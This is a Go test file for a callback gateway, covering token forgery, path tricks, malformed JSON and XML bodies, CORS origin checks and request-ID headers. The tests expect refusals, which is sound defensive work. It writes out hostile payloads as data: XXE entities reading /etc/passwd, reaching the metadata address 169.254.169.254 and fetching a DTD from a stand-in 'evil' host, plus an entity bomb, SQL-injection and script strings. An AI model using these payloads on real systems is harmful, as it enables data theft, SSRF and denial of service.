package gateway_test

import (
	"strings"
	"time"

	"syncgate/correlator"
)

// Attacks from where engines call back and clients come back: who holds no token must reach nothing, and what is wrong
// with a genuine one must leave its client parked.

func (f *forge) tokens() []attack {
	with := func(name, why, token string) attack {
		return attack{name, why, post("/api/1/plugins/callback/"+token, `{"stolen":true}`), heard(404)}
	}
	gone := func(name, why string, token []byte) attack {
		return attack{name, why, post("/api/1/plugins/callback/"+string(token), `{}`), heard(410)}
	}
	other, err := correlator.NewKeys([]string{correlator.RandomKey()})
	if err != nil {
		panic(err)
	}
	hour := time.Now().Add(time.Hour)
	return []attack{
		with("first character", "the random part names the trip", flip(f.token, 0)), with("random part", "likewise", flip(f.token, 12)),
		with("home node", "it would be asked for what it never made", flip(f.token, 26)), with("expiry", "a token for ever", flip(f.token, 36)),
		with("op", "the next op of the same trip", flip(f.token, 44)), with("seal", "it counts to the end", flip(f.token, 50)),
		with("last character", "likewise", flip(f.token, len(f.token)-1)), with("spare bits", "one spelling per token", respelled(f.token)),
		with("truncated", "a seal is as good as it is long", f.token[:len(f.token)-1]), with("without its seal", "likewise", f.token[:46]),
		with("half", "what logs could show", f.token[:len(f.token)/2]), with("8 characters", "what logs show", f.token[:8]), with("one character", "no token", "A"),
		with("extended", "one spelling per token", f.token+"A"), with("twice", "likewise", f.token+f.token), with("padded", "likewise", f.token+"="),
		with("encoded character", "likewise", "%"+hex(f.token[0])+f.token[1:]), with("blank behind", "likewise", f.token+"%20"),
		with("line feed behind", "decoders skip it", f.token+"%0A"), with("NUL behind", "C strings end there", f.token+"%00"),
		with("the other alphabet", "one spelling per token", f.token[:5]+"+"+f.token[6:]),
		with("hex", "likewise", strings.Repeat("ab", len(f.token)/2)), with("upper case", "base64 has a case", strings.ToUpper(f.token)),
		with("lower case", "likewise", strings.ToLower(f.token)), with("backwards", "no token", backwards(f.token)),
		with("zeros", "no token", strings.Repeat("A", len(f.token))), with("ones", "no token", strings.Repeat("_", len(f.token))),
		with("a number", "the vendor's own ids once looked so", "00000000000000000000000000000001"), with("a task of the engine", "it is no secret", "5cf67011094bab1b9a00a31d"),
		with("a UUID", "no token", "123e4567-e89b-12d3-a456-426614174000"), with("null", "an unset variable", "null"), with("undefined", "an unset variable", "undefined"),
		with("an unset template", "a process that has lost its data", "%7B%7B__callback_url%7D%7D"), with("dots", "no path either", ".."), with("a star", "no pattern", "*"),
		with("quotes", "no SQL either", "'%20or%201=1"), with("Cyrillic", "letters that look alike", "Аbc"), with("very long", "it is not logged whole", strings.Repeat("A", 8000)),
		with("a task id", "who may read may not write", strings.TrimPrefix(f.task, "/api/1/tasks/")),
		with("a task id made longer", "likewise", (strings.TrimPrefix(f.task, "/api/1/tasks/") + "AAAAAAAA")[:len(f.token)]),
		with("head of one, seal of another", "the seal is of the whole", f.token[:46]+f.finished[46:]),
		with("sealed with another key", "somebody else's gateway", string(other.AppendToken(nil, correlator.Token{Trip: correlator.NewID(correlator.NewNodeID(), hour)}))),
		gone("expired", "it must not be worth anything for ever", f.n.keys.AppendToken(nil, correlator.Token{Trip: f.n.memo.NewID(time.Now().Add(-time.Second))})),
		gone("of a process that is gone", "its engine hears that nobody waits", f.n.keys.AppendToken(nil, correlator.Token{Trip: correlator.NewID(correlator.NewNodeID(), hour)})),
		{"the query of a node", "it is none: system parameters", post("/api/1/plugins/callback/"+f.finished+"?conv_signature=x&conv_time=1&conv_id=2", `{}`), heard(200)},
		{"again", "it is none: the first one stands", post("/api/1/plugins/callback/"+f.finished, `{"stolen":true}`), heard(200)},
		{"of the largest size", "it is none", post("/api/1/plugins/callback/"+f.finished, `"`+strings.Repeat("x", callbackLimit-2)+`"`), heard(200)},
	}
}

func (f *forge) callbackPaths() []attack {
	lost := func(name, why, path string) attack {
		return attack{name, why, post(path, `{}`), refused(404, "Not found")}
	}
	with := func(method, why string) attack {
		return attack{method, why, request(method, "/api/1/plugins/callback/"+f.token, ""), heard(405).with("Allow", "POST")}
	}
	return []attack{
		lost("no token", "nobody is meant", "/api/1/plugins/callback/"), lost("no slash", "likewise", "/api/1/plugins/callback"),
		lost("slash behind", "one spelling per path", "/api/1/plugins/callback/"+f.token+"/"), lost("segment behind", "likewise", "/api/1/plugins/callback/"+f.token+"/x"),
		lost("version 2", "likewise", "/api/2/plugins/callback/"+f.token), lost("doubled slash", "likewise", "/api/1/plugins/callback//"+f.token),
		lost("doubled slash in front", "likewise", "//api/1/plugins/callback/"+f.token), lost("encoded slash", "likewise", "/api/1/plugins/callback%2F"+f.token),
		lost("dot dot", "likewise", "/x/../api/1/plugins/callback/"+f.token), lost("upper case", "likewise", "/API/1/PLUGINS/CALLBACK/"+f.token),
		lost("token first", "likewise", "/"+f.token), lost("under tasks", "who may write may not read", "/api/1/tasks/"+f.token+"/"),
		with("GET", "scanners and link previews must consume nothing"), with("HEAD", "likewise"), with("DELETE", "nothing to delete"),
		with("OPTIONS", "no browser calls back"), with("TRACE", "it would echo"), with("CONNECT", "this is no proxy"), with("post", "methods have a case"),
	}
}

// callbacks are bodies that are none of the formats that engines send. Whoever waits stays parked.
func (f *forge) callbacks() []attack {
	bad := func(name, why, contentType, body string) attack {
		return attack{name, why, post("/api/1/plugins/callback/"+f.token, body, "Content-Type: "+contentType), heard(400)}
	}
	const json, form = "application/json", "application/x-www-form-urlencoded"
	return []attack{
		bad("text", "the reply would not be JSON", "text/plain", "ok"), bad("no type", "likewise", "", "ok"), bad("a page of errors", "likewise", "text/html", "<html>502</html>"),
		bad("JSON that is none", "likewise", json, "ok"), bad("cut", "a connection that broke", json, `{"a":1`), bad("cut in a string", "likewise", json, `{"a":"b`),
		bad("a brace too much", "it would close our reply", json, `{"a":1}}`), bad("a member too much", "it would forge our reply", json, `{}},{"proc":"ok","data":{}`),
		bad("two values", "exactly one", json, `{}{}`), bad("two lines", "likewise", json, "{}\n{}"), bad("a comma", "no value", json, `,`), bad("blanks", "no value", json, "  "),
		bad("NUL", "no JSON", json, "\x00"), bad("NUL behind", "likewise", json, "{}\x00"), bad("NaN", "no JSON", json, `NaN`), bad("True", "Python", json, `True`), bad("single quotes", "Python", json, `{'a':1}`),
		bad("leading zero", "two sums", json, `{"sum":0100}`), bad("a form under JSON", "its type is what it says", json, `a=1&b=2`),
		bad("two byte order marks", "one is dropped", json, "\ufeff\ufeff{}"), bad("0xFF", "no UTF-8", json, "{\"a\":\"\xff\"}"), bad("overlong", "no UTF-8", json, "{\"a\":\"\xc0\xaf\"}"),
		bad("encoded surrogate", "no UTF-8", json, "{\"a\":\"\xed\xa0\xbd\"}"), bad("raw line feed", "no JSON", json, "{\"a\":\"x\ny\"}"), bad("UTF-16", "no UTF-8", json, "{\x00}\x00"),
		bad("129 levels", "one more than is taken", json, nested(129)), bad("60,000 arrays", "a recursive parser dies of its stack", json, strings.Repeat("[", 60_000)),
		bad("a form that is no UTF-8", "its strings would not be JSON", form, "a=%ff"), bad("a name that is no UTF-8", "likewise", form, "%ff=a"),
		bad("a file", "no result is one", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=a; filename=a\r\n\r\n1\r\n--x--"),
		bad("multipart cut off", "half a result is none", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x"),
		bad("bytes", "likewise", "application/octet-stream", "\x89PNG\r\n"), bad("gzip unannounced", "likewise", json, "\x1f\x8b\x08"), bad("YAML", "likewise", "application/yaml", "a: 1"),
		bad("Corezoid format, cut", "no JSON", json, `{"ops":[{"type":"data","extra":{}`), bad("JSON text sequence", "likewise", "application/json-seq", "\x1e{}\n"),
	}
}

func (f *forge) xml() []attack {
	bad := func(name, why, body string) attack {
		return attack{name, why, post("/api/1/plugins/callback/"+f.token, body, "Content-Type: application/xml"), heard(400)}
	}
	bomb := `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>`
	return []attack{
		bad("entities of entities", "a billion laughs", bomb), bad("a file", "our files in the client's reply", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`),
		bad("a URL", "requests from within our network", `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><r>&x;</r>`),
		bad("a parameter entity", "likewise", `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]><r/>`), bad("an undeclared entity", "nobody knows it", `<r>&nbsp;</r>`),
		bad("an entity in an attribute", "likewise", `<r a="&x;"/>`), bad("a character that is none", "no XML", `<r>&#0;</r>`),
		bad("Latin-1", "only UTF-8 is taken", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r>\xe9</r>"),
		bad("Windows-1251", "likewise", "<?xml version=\"1.0\" encoding=\"windows-1251\"?><r>\xe0</r>"), bad("UTF-7", "markup in hiding", `<?xml version="1.0" encoding="UTF-7"?><r/>`),
		bad("UTF-16", "likewise", "\xff\xfe<\x00r\x00/\x00>\x00"), bad("0xFF", "no UTF-8", "<r>\xff</r>"), bad("open", "no end", "<r><x>"), bad("cut", "no end", "<r"), bad("crossed", "no tree", "<a><b></a></b>"),
		bad("two roots", "exactly one", "<a/><b/>"), bad("text behind", "likewise", "<a/>garbage"), bad("text in front", "likewise", "garbage<a/>"), bad("no root", "likewise", `<?xml version="1.0"?>`),
		bad("the same attribute twice", "which one", `<r a="1" a="2"/>`), bad("attribute without quotes", "HTML", `<r a=1/>`), bad("1000 levels", "a recursive reader dies of its stack", strings.Repeat("<a>", 1000)+strings.Repeat("</a>", 1000)),
		{
			"another charset by header", "the header counts too",
			post("/api/1/plugins/callback/"+f.token, "<r>e</r>", "Content-Type: text/xml; charset=iso-8859-1"), heard(400),
		},
	}
}

func (f *forge) tasks() []attack {
	get := func(name, why, path string, want verdict) attack {
		return attack{name, why, request("GET", path, ""), want}
	}
	id := strings.TrimPrefix(f.task, "/api/1/tasks/")
	lost := func(name, why, id string) attack {
		return get(name, why, "/api/1/tasks/"+id, refused(404, "Not found"))
	}
	return []attack{
		lost("first character", "results are not for strangers", flip(id, 0)), lost("seal", "likewise", flip(id, len(id)-2)), lost("spare bits", "one spelling per id", respelled(id)),
		lost("truncated", "likewise", id[:len(id)-1]), lost("extended", "likewise", id+"A"), lost("padded", "likewise", id+"="), lost("upper case", "likewise", strings.ToUpper(id)),
		lost("encoded", "likewise", "%"+hex(id[0])+id[1:]), lost("a token", "who may write may not read", f.token), lost("a token cut to size", "likewise", f.token[:len(id)]),
		lost("empty", "results are not listed", ""), lost("a number", "likewise", "1"), lost("dots", "likewise", ".."), lost("slash behind", "one spelling per path", id+"/"), lost("a star", "no pattern", "*"),
		get("version 2", "one spelling per path", "/api/2/tasks/"+id, refused(404, "Not found")), get("none at all", "results are not listed", "/api/1/tasks", refused(404, "Not found")),
		get("expired", "it is not kept for ever", "/api/1/tasks/"+string(f.n.keys.AppendTaskID(nil, f.n.memo.NewID(time.Now().Add(-time.Second)))), refused(410, "Gone")),
		get("never kept", "its client has it", "/api/1/tasks/"+string(f.n.keys.AppendTaskID(nil, f.n.memo.NewID(time.Now().Add(time.Hour)))), refused(410, "Gone")),
		get("pending", "it is none", f.task, pending()),
	}
}

func (f *forge) origins() []attack {
	body := create(`{}`)
	const allow = "Access-Control-Allow-Origin"
	preflight := func(name, why, origin string) attack {
		ask := request("OPTIONS", f.signed(body), "", "Origin: "+origin, "Access-Control-Request-Method: POST", "Access-Control-Request-Headers: content-type")
		return attack{name, why, ask, refused(403, "").without(allow)}
	}
	return []attack{
		preflight("foreign", "its pages may not read our answers", "https://evil.example"), preflight("subdomain in front", "a comparison of the end would take it", "https://evilshop.example"),
		preflight("domain behind", "a comparison of the beginning would take it", shop+".evil.example"), preflight("a subdomain", "another origin", "https://x.shop.example"),
		preflight("another scheme", "http can be forged on the way", "http://shop.example"), preflight("another port", "another origin", shop+":8443"), preflight("null", "a sandboxed frame of anybody", "null"),
		preflight("upper case", "browsers send lower case", strings.ToUpper(shop)), preflight("a slash behind", "an origin has no path", shop+"/"), preflight("a dot behind", "another name", shop+"."),
		preflight("a pattern", "no pattern", "*"), preflight("two", "one origin per request", shop+" https://evil.example"), preflight("a user", "no origin", "https://shop.example@evil.example"),
		{"POST of a foreign one", "it is none, but its page must not read it", post(f.signed(body), body, "Origin: https://evil.example"), trip().without(allow)},
		{"error to a foreign one", "likewise", post("/nowhere", body, "Origin: null"), refused(404, "Not found").without(allow)},
		{"error to an allowed one", "it is none: its page may read errors too", post("/nowhere", body, "Origin: "+shop), refused(404, "Not found").with(allow, shop)},
	}
}

func (f *forge) requestIDs() []attack {
	body := create(`{}`)
	id := func(name, why, id string) attack {
		return attack{name, why, post(f.signed(body), body, "X-Request-Id: "+id), trip().without("X-Request-Id", id)}
	}
	return []attack{
		id("too long", "logs and headers are bounded", strings.Repeat("x", 129)), id("blank", "a field of a log ends there", "a b"), id("markup", "a log is read in a browser", "<script>"),
		id("quotes", "a log is JSON", `a"b`), id("escape", "a terminal obeys it", `\x1b[2J`), id("no ASCII", "another encoding", "Ї"), id("a slash", "a path of a log store", "../x"), id("comma", "two ids", "a,b"),
		{"of 128", "it is none", post(f.signed(body), body, "X-Request-Id: "+strings.Repeat("x", 128)), trip().with("X-Request-Id", strings.Repeat("x", 128))},
	}
}
